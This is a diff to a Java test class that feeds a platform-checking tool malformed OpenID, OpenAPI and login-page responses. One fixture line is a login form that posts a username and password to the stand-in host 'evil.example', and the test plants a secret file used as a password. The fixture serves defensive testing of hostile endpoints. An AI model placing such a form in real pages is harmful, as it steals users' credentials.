@@ -29,8 +29,13 @@ class HostileFunctionsTest {
           "/auth/.well-known/openid-configuration",
           List.of(
               "{\"issuer\":\"x\",\"token_endpoint\":\"y\",\"jwks_uri\":\"https://keys.elsewhere.example/k\"}",
-              "{\"issuer\":1,\"jwks_uri\":\"http://[bad\"}",
+              "{\"issuer\":1,\"jwks_uri\":\"http://[bad\",\"authorization_endpoint\":\"/auth/page?x=1\",\"token_endpoint\":\"/auth/token\",\"code_challenge_methods_supported\":{\"a\":[\"S256\"]}}",
               "[[[["),
+          "/auth/page",
+          List.of(
+              "",
+              "<form method=post action='//evil.example'><input name=username><input type=password>",
+              ""),
           "/openapi.json",
           List.of(
               "{\"openapi\":\"3.0.3\",\"servers\":[{\"url\":\"mailto:x\"},{\"url\":\"http://[bad\"}],\"paths\":{\"/a b/{c}\":{\"get\":{\"responses\":{}}}}}",
@@ -56,11 +61,13 @@ class HostileFunctionsTest {
     try (ReferencePlatform platform = ReferencePlatform.start(0)) {
       String odd = "http://127.0.0.1:" + server.getAddress().getPort();
       Path file = folder.resolve("p.yaml");
+      Files.writeString(folder.resolve("secret.txt"), "secret");
       Files.writeString(
           file,
           """
           platform: { name: Odd }
           endpoints: { ngsi-ld: "%1$s/ngsi-ld/v1", openapi: "%2$s/openapi.json", issuer: "%2$s/auth", catalogue: "%2$s/api/3/action", health: "%2$s/health" }
+          access: { login: { client-id: a, redirect-uri: "http://127.0.0.1:1/b" }, people: { resident: { user: a, password: "${file:secret.txt}" } } }
           claims: { profile: city-os-data-exchange, ngsi-ld: "1.8.1", classes: { city-api-publication: true, city-api-authentication: true, city-data-catalogue: true, city-api-operation: true } }
           """
               .formatted(platform.origin(), odd));
